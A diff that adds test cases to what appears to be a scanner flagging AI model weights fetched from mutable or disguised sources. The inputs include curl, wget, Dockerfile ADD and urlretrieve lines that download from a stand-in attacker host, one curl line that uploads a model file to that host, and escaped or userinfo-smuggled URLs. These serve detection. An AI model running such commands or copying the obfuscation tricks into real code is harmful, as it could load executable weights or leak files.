@@ -81,6 +81,60 @@ describe('an address that leads elsewhere', () => {
   })
 })
 
+describe('a download under another name', () => {
+  const moving = 'warning: model-unpinned/mutable'
+  it.each([
+    ['run.sh', 'curl -L -o model.gguf https://evil.test/get?id=1\n'],
+    ['run.sh', 'curl -sLo "$HOME/model.gguf" https://evil.test/get\n'],
+    ['run.sh', 'curl -L https://evil.test/get > model.gguf\n'],
+    ['run.sh', 'wget -qO model.safetensors https://evil.test/get\n'],
+    ['run.sh', 'curl -L https://huggingface.co/evil/pickle/resolve/main/photo.png -o model.gguf\n'],
+    ['Dockerfile', 'FROM x\nADD https://evil.test/get /models/model.gguf\n'],
+    ['app.py', 'from urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", "model.safetensors")\n'],
+    [
+      'app.py',
+      'import os\nfrom urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", os.path.join(here, "model.ckpt"))\n',
+    ],
+  ])('%s: %s', async (path, text) => {
+    expect(await seen(path, text)).toContain(moving)
+  })
+
+  it.each([
+    ['run.sh', 'curl -L -o data.json https://evil.test/get\nwget -O a.zip https://evil.test/get\n'],
+    ['run.sh', 'curl -L https://huggingface.co/evil/pickle/resolve/main/photo.png -o photo.png\n'],
+    ['run.sh', 'curl -F model=@model.gguf https://evil.test/upload\n'],
+    ['app.py', 'from urllib.request import urlretrieve\nurlretrieve("https://evil.test/get", "rows.csv")\n'],
+  ])('nothing about %s: %s', async (path, text) => {
+    expect(await seen(path, text)).toEqual([])
+  })
+})
+
+describe('a name in escapes', () => {
+  it.each([
+    'import requests\nrequests.get("https://huggingface.co/%65vil/pickle/%72esolve/main/pytorch_model.bin")\n',
+    'import requests\nrequests.get("https://huggingface.co/api/models/evil/pickle/resolve/main/pytorch_model.bin")\n',
+    'import requests\nrequests.get("https://huggingface.co/api/resolve-cache/models/evil/pickle/main/pytorch_model.bin")\n',
+    'from transformers import AutoModel\nAutoModel.from_pretrained("\\145vil/pickle")\n',
+    'from transformers import AutoModel\nAutoModel.from_pretrained("\\U00000065vil/pickle")\n',
+  ])('%s', async text => {
+    expect(await seen('app.py', text)).toContain('warning: model-unpinned/mutable')
+  })
+
+  it('with the hub’s name where a host has its users', async () => {
+    const at = `https://evil.test\\\\@huggingface.co/acme/good/resolve/${good}/model.safetensors`
+    expect(await seen('app.py', get(at))).toEqual(['warning: model-unpinned/mutable'])
+  })
+
+  it('in a store of the hub that no model of the name has to do with', async () => {
+    replay.publish({ id: 'evil/store' }, { 'model.safetensors': 'w' })
+    expect(await seen('app.py', 'open("hf://buckets/evil/store/model.ckpt")\n')).toEqual([
+      'warning: model-format/executes',
+    ])
+  })
+})
+
+const get = (address: string) => `import requests\nrequests.get("${address}")\n`
+
 describe('weights that the pull request itself commits', () => {
   const blob = (oid: string, bytes: Iterable<number>) => contentOf('100644', oid.repeat(40), Uint8Array.from(bytes))
   const pickle = [0x80, 4, 0x95, 0, 0, 0]
